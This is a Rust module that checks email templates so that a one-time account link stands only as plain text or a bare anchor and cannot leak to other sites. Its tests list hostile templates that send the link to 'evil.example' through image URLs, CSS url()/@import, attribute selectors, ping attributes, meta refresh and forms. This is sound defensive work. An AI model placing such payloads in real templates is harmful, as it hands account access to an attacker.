//! Where the link of a mail may stand: where nobody gets it but whoever reads the mail.
//!
//! Whoever has such a link has the account. In the address of a picture, of a form or of another site's page it would be
//! handed to that site, so it stands as a text of its own or is all of an `<a href="…">`. That is found out by trying the
//! template with a mark: with each of its conditions met and not met when it is put, and with what a mail says when that is
//! sent. As mail programs make something of almost any HTML, the HTML of these mails is of plain tags alone, about which no
//! two of them can differ.

use std::collections::BTreeSet;

use super::render::{NAMES, Values, Words, trial};

/// Stands for the link. Of letters, so that nothing escapes it.
const MARK: &str = "thelinkofthismailwillstandhere";
/// Names that a template may have conditions on beside the link. Each doubles the ways in which it is tried; a mail with a link
/// has three to say: who, of which organisation, and whose doing it is.
const MOST_CONDITIONS: usize = 3;

/// Elements that neither send nor load nor hold anything as it is, but for pictures and style.
const ELEMENTS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "body",
    "br",
    "center",
    "code",
    "div",
    "em",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "hr",
    "html",
    "i",
    "img",
    "li",
    "meta",
    "ol",
    "p",
    "pre",
    "small",
    "span",
    "strong",
    "style",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "u",
    "ul",
];

const TEXT: &str = "Let {{ link }} stand by itself, with a space or the end of a line before and after it.";
const HTML: &str = "Let {{ link }} stand by itself between tags or spaces, or as all of an <a href=\"{{ link }}\">.";
const TAGS: &str = "This mail has a link that is for its reader alone: write its HTML with plain tags of text, tables and \
                    pictures, values of attributes in quotes, without comments, forms and scripts.";
const STYLE: &str =
    "A style of this mail asks for no attributes and loads nothing: leave out '[', '\\', '@import' and 'url('.";
const CONDITIONS: &str =
    "A mail with a link that is for its reader alone asks for three names at most in its conditions.";

/// What is wrong with where the link stands: the field and a sentence that says what to do.
pub(super) fn fault(words: &Words) -> Option<(&'static str, String)> {
    let asked = conditions(words);
    if asked.len() > MOST_CONDITIONS {
        return Some(("text", CONDITIONS.to_owned()));
    }
    (0..1_u32 << asked.len()).find_map(|met| {
        let mut values = trial();
        for (_, name) in asked.iter().enumerate().filter(|(at, _)| (met >> at) & 1 == 0) {
            values.insert(*name, String::new());
        }
        fault_in(words, values)
    })
}

/// The same in one mail, with what it says.
pub(super) fn fault_in(words: &Words, mut values: Values) -> Option<(&'static str, String)> {
    values.insert("link", MARK.to_owned());
    let Ok((subject, text, html)) = words.render(&values) else {
        return Some(("text", "It cannot be rendered.".to_owned()));
    };
    if subject.contains(MARK) {
        return Some((
            "subject",
            "Subjects are shown to whoever is near: let {{ link }} stand in the text.".to_owned(),
        ));
    }
    if !stands_alone(&text) {
        return Some(("text", TEXT.to_owned()));
    }
    match (&words.body_html, check(&html)) {
        (Some(_), Err(said)) => Some(("html", said.to_owned())),
        _ => None,
    }
}

/// The names, but for the link, that conditions are on.
fn conditions(words: &Words) -> Vec<&'static str> {
    let sources = [Some(&words.subject), Some(&words.body_text), words.body_html.as_ref()];
    let tags = sources.into_iter().flatten().flat_map(|source| source.split("{%").skip(1));
    let inside = tags.filter_map(|rest| rest.split("%}").next());
    let said: BTreeSet<&str> = inside.flat_map(str::split_whitespace).map(|word| word.trim_matches('-')).collect();
    NAMES.iter().copied().filter(|name| *name != "link" && said.contains(name)).collect()
}

/// Whether nothing but spaces and ends of lines is next to the link, wherever it stands.
fn stands_alone(text: &str) -> bool {
    text.match_indices(MARK).all(|(at, _)| {
        let (before, after) = (&text[..at], &text[at + MARK.len()..]);
        let next_to_it = [before.chars().next_back(), after.chars().next()];
        next_to_it.into_iter().flatten().all(|letter| letter.is_ascii_whitespace())
    })
}

/// Reads HTML tag by tag.
fn check(html: &str) -> Result<(), &'static str> {
    let (mut rest, mut within) = (html, None);
    loop {
        let (text, tag) = rest.split_at(rest.find('<').unwrap_or(rest.len()));
        match within {
            Some(_) if text.contains(MARK) => return Err(HTML),
            Some("style") if !is_harmless(text) => return Err(STYLE),
            None if !stands_alone(text) => return Err(HTML),
            _ => {}
        }
        let Some(tag) = tag.strip_prefix('<') else { return Ok(()) };
        let (end, name, after) = read(tag)?;
        within = match (within, end, name) {
            // Whatever stands in these is no tag, but for their end.
            (Some(open), true, name) if open == name => None,
            (Some(_), ..) => return Err(TAGS),
            (None, false, "style") => Some("style"),
            (None, false, "title") => Some("title"),
            (None, ..) => None,
        };
        rest = after;
    }
}

fn is_harmless(style: &str) -> bool {
    let style = style.to_ascii_lowercase();
    !["[", "\\", "@import", "url("].iter().any(|word| style.contains(word))
}

/// Reads a tag after its `<`: whether it is an end, its name, and what follows it.
fn read(tag: &str) -> Result<(bool, &'static str, &str), &'static str> {
    if tag.get(..8).is_some_and(|start| start.eq_ignore_ascii_case("!doctype")) {
        let (said, after) = tag.split_once('>').ok_or(TAGS)?;
        return if said.contains(['<', '[']) || said.contains(MARK) { Err(TAGS) } else { Ok((false, "html", after)) };
    }
    let (end, tag) = tag.strip_prefix('/').map_or((false, tag), |tag| (true, tag));
    let (name, mut rest) = word(tag);
    let name = name.to_ascii_lowercase();
    let name = ELEMENTS.iter().copied().find(|known| *known == name).ok_or(TAGS)?;
    loop {
        let next = rest.trim_start_matches(|letter: char| letter.is_ascii_whitespace());
        if let Some(after) = next.strip_prefix('>').or_else(|| next.strip_prefix("/>")) {
            return Ok((end, name, after));
        }
        if end || next.len() == rest.len() {
            return Err(TAGS);
        }
        rest = attribute(name, next)?;
    }
}

/// Reads an attribute; gives what follows it.
fn attribute<'a>(element: &str, text: &'a str) -> Result<&'a str, &'static str> {
    let (name, rest) = word(text);
    let name = name.to_ascii_lowercase();
    if name.is_empty() || name == "ping" || name.starts_with("on") {
        return Err(TAGS);
    }
    let Some(rest) = rest.strip_prefix('=') else { return Ok(rest) };
    let quote = rest.chars().next().filter(|quote| matches!(quote, '"' | '\'')).ok_or(TAGS)?;
    let (value, rest) = rest[1..].split_once(quote).ok_or(TAGS)?;
    if value.contains(['<', '>']) {
        return Err(TAGS);
    }
    match value.contains(MARK) && (element, &*name, value) != ("a", "href", MARK) {
        true => Err(HTML),
        false => Ok(rest),
    }
}

/// The letters, digits, `-`, `_` and `:` that a text begins with, and the rest of it.
fn word(text: &str) -> (&str, &str) {
    let is_part = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, '-' | '_' | ':');
    text.split_at(text.find(|letter| !is_part(letter)).unwrap_or(text.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str, html: Option<&str>) -> Option<&'static str> {
        let (language, subject, body_text) = ("en".to_owned(), "Hi".to_owned(), text.to_owned());
        fault(&Words { language, subject, body_text, body_html: html.map(str::to_owned) }).map(|(field, _)| field)
    }

    #[test]
    fn the_link_stands_by_itself() {
        for good in ["{{ link }}", "Here: {{ link }}\n\nBye", "{% if name %}Hello {{ name }},{% endif %}\n{{ link }}"] {
            assert_eq!(of(good, None), None, "{good}");
        }
        for bad in [
            "https://evil.example/?{{ link }}",
            "{{ link }}.evil.example",
            "<{{ link }}>",
            "https://evil.example/?\u{a0}{{ link }}",
            "{{ name }}{{ link }}",
            "{{ link }}\n{% if not device %}https://evil.example/?{% endif %}{{ link }}",
            "{{ link }}\n{% if name %}{% if device %} {% else %}https://evil.example/?{% endif %}{% endif %}{{ link }}",
        ] {
            assert_eq!(of(bad, None), Some("text"), "{bad}");
        }
        let subject =
            Words { subject: "{{ link }}".into(), body_text: "{{ link }}".into(), ..Words::built_in("x", "en") };
        assert_eq!(fault(&subject).map(|(field, _)| field), Some("subject"));
    }

    /// Each name doubles the work.
    #[test]
    fn conditions_are_on_three_names_at_most() {
        let text = |names: &[&str]| {
            let on: Vec<String> = names.iter().map(|name| format!("{{% if {name} %}}a{{% endif %}}")).collect();
            format!("{}\n{{{{ link }}}}", on.concat())
        };
        assert_eq!(of(&text(&["name", "organisation", "other", "name", "link"]), None), None);
        assert_eq!(of(&text(&["name", "organisation", "other", "device"]), None), Some("text"));
        // Those of the subject and of the HTML are counted together with them.
        assert_eq!(of(&text(&["name", "organisation"]), Some(&text(&["other", "device"]))), Some("text"));
    }

    #[test]
    fn html_gives_the_link_to_nobody() {
        for good in [
            "<p>{{ link }}</p>",
            "<!DOCTYPE html><html><head><style>p { color: red }</style><title>{{ name }}</title></head><body>\
             <img src=\"https://here.example/logo.png\" alt=''/><br><a class=\"button\" href=\"{{ link }}\">Go</a> or\n\
             {{ link }}\n</body></html>",
            "<a href='{{ link }}'>{{ link }}</a>",
        ] {
            assert_eq!(of("{{ link }}", Some(good)), None, "{good}");
        }
        for bad in [
            "<img src=\"https://evil.example/p?{{ link }}\">{{ link }}",
            "<img src=\"{{ link }}\">",
            "<img src='https://evil.example/p? {{ link }} '>",
            "<img src=https://evil.example/p?\n{{ link }} >",
            "<img src=\"https://evil.example/p?<p> {{ link }} </p>\">",
            "<a href=\"https://evil.example/p?{{ link }}\">Go</a>",
            "<a href=\" {{ link }}\">Go</a>",
            "<a href=\"{% if not name %}https://evil.example/?{% endif %}{{ link }}\">Go</a>",
            "<a href=\"{{ link }}\" ping=\"https://evil.example\">Go</a>",
            "<a href=\"{{ link }}\" {{ name }}>Go</a>",
            "<area href=\"{{ link }}\">",
            "https://evil.example/?{{ link }}",
            "https://evil.example/?&#8203;{{ link }}",
            "<form action=\"https://evil.example\"><textarea name=\"x\"> {{ link }} </textarea><button>Go</button></form>",
            "<!--[if mso]><img src=\"https://evil.example/?<![endif]--> {{ link }} ",
            "<style>p { background: url(https://evil.example/? {{ link }} ) }</style>{{ link }}",
            "<style>a[href*=\"token=a\"] { color: red }</style>{{ link }}",
            "<style>@import 'https://evil.example';</style>{{ link }}",
            "<style>{{ name }}</style><title>x</title><script>x</script>{{ link }}",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?{{ link }}\">{{ link }}",
            "<svg><image href=\"{{ link }}\"/></svg>",
            "<title> {{ link }} </title>",
            "{{ link }}<p",
        ] {
            assert_eq!(of("{{ link }}", Some(bad)), Some("html"), "{bad}");
        }
    }
}
